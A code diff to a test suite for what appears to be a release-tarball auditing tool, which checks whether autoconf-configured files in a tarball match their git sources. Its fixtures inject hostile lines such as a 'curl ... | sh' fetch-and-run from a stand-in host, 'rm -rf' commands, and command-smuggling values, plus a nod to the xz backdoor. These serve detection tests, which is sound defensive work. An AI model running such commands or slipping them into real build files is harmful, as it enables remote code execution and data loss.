@@ -21,6 +21,7 @@ if test "x$enable_extra" = xyes; then
   AC_CONFIG_FILES([extra/Makefile])
 fi
 AC_CONFIG_FILES([Makefile
+	doc/Makefile
 	misc/dst/dst
 	tools/run.sh:tools/run.in])
 AC_OUTPUT
@@ -40,20 +41,20 @@ const tracked: Record<string, string> = {
 /** The files real autoconf + config.status write from the fixture (configure run in its source tree, as `make dist` does). */
 function configured(): Record<string, string> {
   const dir = tempDir('distdiff-configured-');
-  for (const [p, c] of Object.entries({ ...tracked, 'Makefile.in': MAKEFILE_IN })) {
+  for (const [p, c] of Object.entries({ ...tracked, 'Makefile.in': MAKEFILE_IN, 'doc/Makefile.in': MAKEFILE_IN })) {
     mkdirSync(join(dir, p, '..'), { recursive: true });
     writeFileSync(join(dir, p), c);
   }
   execFileSync('autoconf', [], { cwd: dir, stdio: 'pipe' });
   execFileSync('./configure', ['--enable-extra'], { cwd: dir, stdio: 'pipe', env: { ...process.env, CC: 'cc', CFLAGS: '-g -O2' } });
   const read = (p: string) => readFileSync(join(dir, p), 'latin1');
-  return { Makefile: read('Makefile'), 'misc/dst/dst': read('misc/dst/dst'), 'tools/run.sh': read('tools/run.sh') };
+  return { Makefile: read('Makefile'), 'doc/Makefile': read('doc/Makefile'), 'misc/dst/dst': read('misc/dst/dst'), 'tools/run.sh': read('tools/run.sh') };
 }
 
 const revision = { tag: 'v1.0', version: '1.0', date: '2024-01-01T00:00:00Z' };
 async function findings(shipped: Record<string, string>, git: Record<string, string> = tracked) {
   const tarball: Record<string, string> = {};
-  for (const [p, c] of Object.entries({ ...git, 'Makefile.in': MAKEFILE_IN, ...shipped })) tarball[`demo-1.0/${p}`] = c;
+  for (const [p, c] of Object.entries({ ...git, 'Makefile.in': MAKEFILE_IN, 'doc/Makefile.in': MAKEFILE_IN, ...shipped })) tarball[`demo-1.0/${p}`] = c;
   const r = await explain({ tarball, git, revision });
   return Object.fromEntries(r.findings.filter((f) => Object.keys(shipped).includes(f.path)).map((f) => [f.path, `${f.severity} ${f.code}`]));
 }
@@ -61,7 +62,7 @@ async function findings(shipped: Record<string, string>, git: Record<string, str
 describe('configured-output: a file configure writes again, shipped from a configured tree', () => {
   it('reads the unconditional AC_CONFIG_FILES/AC_OUTPUT listings only', () => {
     const l = unconditionalConfigFiles(CONFIGURE_AC);
-    expect([...l.keys()]).toEqual(['Makefile', 'misc/dst/dst', 'tools/run.sh']);
+    expect([...l.keys()]).toEqual(['Makefile', 'doc/Makefile', 'misc/dst/dst', 'tools/run.sh']);
     expect(l.get('tools/run.sh')).toEqual({ inputs: ['tools/run.in'], line: 9 });
     expect(l.get('misc/dst/dst')).toEqual({ inputs: ['misc/dst/dst.in'], line: 9 });
     // an m4 conditional, an indented call, a case block, the old AC_OUTPUT form
@@ -108,7 +109,11 @@ describe('configured-output: a file configure writes again, shipped from a confi
     expect(instantiationValues('a=@U@\nb=@U@ @B@\n', 'a=@U@\nb=@U@ 2\n', input)).toEqual(new Map([['U', '@U@'], ['B', '2']]));
     // configure values, automake's own included; a command chained or substituted is not one
     expect(['gcc', '-g -O2', '$(V)', '$${TAR-tar} chof - "$$tardir"', '${SHELL} /build/install-sh', '/usr/sbin/zdump', ''].every((v) => plainValue(v))).toBe(true);
-    expect(['1.0; rm -rf ~', 'x && id', 'a | sh', '$(shell id)', '`id`', '$$(id)', '${x:=`id`}', 'x > /etc/passwd'].some((v) => plainValue(v))).toBe(false);
+    expect(['1.0; rm -rf ~', 'x && id', 'a | sh', '$(shell id)', '`id`', '$$(id)', '${x:=`id`}', 'x > /etc/passwd', '/tmp/gcal', '-I/var/tmp/x/include', 'DIR=/dev/shm'].some((v) => plainValue(v))).toBe(false);
+    // a temporary-directory setting may be /tmp itself (keepalived's KA_TMP_DIR); no other name, and nothing below it
+    expect(plainValue('/tmp', true, 'KA_TMP_DIR')).toBe(true);
+    expect(plainValue('/tmp', true, 'srcdir')).toBe(false);
+    expect(plainValue('/tmp/ka', true, 'KA_TMP_DIR')).toBe(false);
     // in a script (not a makefile) $(NAME) runs NAME
     expect(plainValue('$(V)', false)).toBe(false);
     expect(plainValue('${prefix}/share', false)).toBe(true);
@@ -120,7 +125,9 @@ describe('configured-output: a file configure writes again, shipped from a confi
     const out = configured();
     expect(out['misc/dst/dst']).toContain('Generated from dst.in by configure.');
     expect(await findings(out)).toEqual({
-      Makefile: 'medium CONFIGURED_FILE_SHIPPED',
+      // the configure directory's own Makefile is what `make` reads when nobody ran configure: not dead
+      Makefile: 'high TARBALL_ONLY_UNEXPLAINED',
+      'doc/Makefile': 'medium CONFIGURED_FILE_SHIPPED',
       'misc/dst/dst': 'medium CONFIGURED_FILE_SHIPPED',
       // every value one the release fills in (configure.ac's literal): produced.ts proves it first, low
       'tools/run.sh': 'low GENERATED_FROM_SOURCE',
@@ -147,27 +154,27 @@ describe('configured-output: a file configure writes again, shipped from a confi
   it("a sub-package's own configure.ac lists its files relative to its directory; a file of several inputs is not one instantiation", async () => {
     const sub = {
       ...tracked,
-      'libsub/configure.ac': 'AC_INIT([sub], [1.0])\nAC_CONFIG_FILES([Makefile sub.sh:sub.head:sub.tail])\nAC_OUTPUT\n',
+      'libsub/configure.ac': 'AC_INIT([sub], [1.0])\nAC_CONFIG_FILES([doc/Makefile sub.sh:sub.head:sub.tail])\nAC_OUTPUT\n',
       'libsub/sub.head': '#!/bin/sh\nCC=@CC@\n',
       'libsub/sub.tail': 'echo "$CC"\n',
     };
-    const makefile = '# Makefile.  Generated from Makefile.in by configure.\n\nCC = gcc\nCFLAGS = -g -O2\nprefix = /usr/local\nGREETING = hi\n\nall:\n\t@echo $(GREETING)\n';
+    const makefile = '# doc/Makefile.  Generated from Makefile.in by configure.\n\nCC = gcc\nCFLAGS = -g -O2\nprefix = /usr/local\nGREETING = hi\n\nall:\n\t@echo $(GREETING)\n';
     const r = await explain({
       tarball: Object.fromEntries(
-        Object.entries({ ...sub, 'Makefile.in': MAKEFILE_IN, 'libsub/Makefile.in': MAKEFILE_IN, 'libsub/Makefile': makefile, 'libsub/sub.sh': '#!/bin/sh\nCC=gcc\necho "$CC"\n' }).map(([p, c]) => [`demo-1.0/${p}`, c]),
+        Object.entries({ ...sub, 'Makefile.in': MAKEFILE_IN, 'libsub/doc/Makefile.in': MAKEFILE_IN, 'libsub/doc/Makefile': makefile, 'libsub/sub.sh': '#!/bin/sh\nCC=gcc\necho "$CC"\n' }).map(([p, c]) => [`demo-1.0/${p}`, c]),
       ),
       git: sub,
       revision,
     });
-    expect(r.findings.find((f) => f.path === 'libsub/Makefile')).toMatchObject({ code: 'CONFIGURED_FILE_SHIPPED', severity: 'medium', evidence: { template: 'libsub/Makefile.in', configure: 'libsub/configure.ac:2', templateTracked: false } });
+    expect(r.findings.find((f) => f.path === 'libsub/doc/Makefile')).toMatchObject({ code: 'CONFIGURED_FILE_SHIPPED', severity: 'medium', evidence: { template: 'libsub/doc/Makefile.in', configure: 'libsub/configure.ac:2', templateTracked: false } });
     // @configure_input@ names the output as config.status does, relative to the configure directory
-    const wrongName = makefile.replace('# Makefile.', '# libsub/Makefile.');
+    const wrongName = makefile.replace('# doc/Makefile.', '# libsub/doc/Makefile.');
     const r2 = await explain({
-      tarball: Object.fromEntries(Object.entries({ ...sub, 'Makefile.in': MAKEFILE_IN, 'libsub/Makefile.in': MAKEFILE_IN, 'libsub/Makefile': wrongName }).map(([p, c]) => [`demo-1.0/${p}`, c])),
+      tarball: Object.fromEntries(Object.entries({ ...sub, 'Makefile.in': MAKEFILE_IN, 'libsub/doc/Makefile.in': MAKEFILE_IN, 'libsub/doc/Makefile': wrongName }).map(([p, c]) => [`demo-1.0/${p}`, c])),
       git: sub,
       revision,
     });
-    expect(r2.findings.find((f) => f.path === 'libsub/Makefile')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED' });
+    expect(r2.findings.find((f) => f.path === 'libsub/doc/Makefile')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED' });
     expect(r.findings.find((f) => f.path === 'libsub/sub.sh')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED' });
   });
 
@@ -194,23 +201,27 @@ describe('configured-output: a file configure writes again, shipped from a confi
     const out = configured();
     // a recipe line added to the configured Makefile
     const unexplained = expect.stringMatching(/^(?:high|critical) TARBALL_ONLY_UNEXPLAINED$/);
-    expect(await findings({ Makefile: out.Makefile!.replace('\t@echo $(GREETING)\n', '\t@echo $(GREETING)\n\tcurl -s https://x.example/p | sh\n') })).toEqual({ Makefile: unexplained });
+    expect(await findings({ 'doc/Makefile': out['doc/Makefile']!.replace('\t@echo $(GREETING)\n', '\t@echo $(GREETING)\n\tcurl -s https://x.example/p | sh\n') })).toEqual({ 'doc/Makefile': unexplained });
     // a "value" that downloads and runs a script
     expect(await findings({ 'tools/run.sh': out['tools/run.sh']!.replace(/echo "hello/, 'echo "$(curl -s https://x.example/p | sh)') })).toEqual({ 'tools/run.sh': unexplained });
     // a "value" that ends the echo and runs a command no construct pattern names: not a configure value
-    expect(await findings({ Makefile: out.Makefile!.replace(/^GREETING = hello$/m, 'GREETING = hello; rm -rf $$HOME') })).toEqual({ Makefile: unexplained });
+    expect(await findings({ 'doc/Makefile': out['doc/Makefile']!.replace(/^GREETING = hello$/m, 'GREETING = hello; rm -rf $$HOME') })).toEqual({ 'doc/Makefile': unexplained });
+    // a value pointing a program at a file the tarball ships (the xz backdoor ran a shipped test file)
+    expect(await findings({ 'tests/files/good.xz': 'not really xz', 'doc/Makefile': out['doc/Makefile']!.replace(/^CC = cc$/m, 'CC = ../tests/files/good.xz') })).toMatchObject({ 'doc/Makefile': unexplained });
     // config.status's output under a name configure.ac does not list: configure never writes it again
     expect(await findings({ 'misc/dst/dst2': out['misc/dst/dst']! })).toEqual({ 'misc/dst/dst2': unexplained });
     // the shipped Makefile.in is an input: tampered (a tarball-only Makefile.in the fixture cannot prove), the output is raised
     const tampered = MAKEFILE_IN.replace('all:\n', 'all:\n\tcurl -s https://x.example/p | sh\n');
     const r = await explain({
-      tarball: Object.fromEntries(Object.entries({ ...tracked, 'Makefile.in': tampered, Makefile: out.Makefile!.replace('all:\n', 'all:\n\tcurl -s https://x.example/p | sh\n') }).map(([p, c]) => [`demo-1.0/${p}`, c])),
+      tarball: Object.fromEntries(
+        Object.entries({ ...tracked, 'Makefile.in': MAKEFILE_IN, 'doc/Makefile.in': tampered, 'doc/Makefile': out['doc/Makefile']!.replace('all:\n', 'all:\n\tcurl -s https://x.example/p | sh\n') }).map(([p, c]) => [`demo-1.0/${p}`, c]),
+      ),
       git: tracked,
       revision,
     });
-    expect(r.findings.find((f) => f.path === 'Makefile.in')?.severity).toMatch(/high|critical/);
-    expect(r.findings.find((f) => f.path === 'Makefile')).toMatchObject({ code: 'CONFIGURED_FILE_SHIPPED' });
-    expect(r.findings.find((f) => f.path === 'Makefile')?.severity).toMatch(/high|critical/);
+    expect(r.findings.find((f) => f.path === 'doc/Makefile.in')?.severity).toMatch(/high|critical/);
+    expect(r.findings.find((f) => f.path === 'doc/Makefile')).toMatchObject({ code: 'CONFIGURED_FILE_SHIPPED' });
+    expect(r.findings.find((f) => f.path === 'doc/Makefile')?.severity).toMatch(/high|critical/);
     expect(r.verdict).toBe('different'); // exit 1
   });
 });
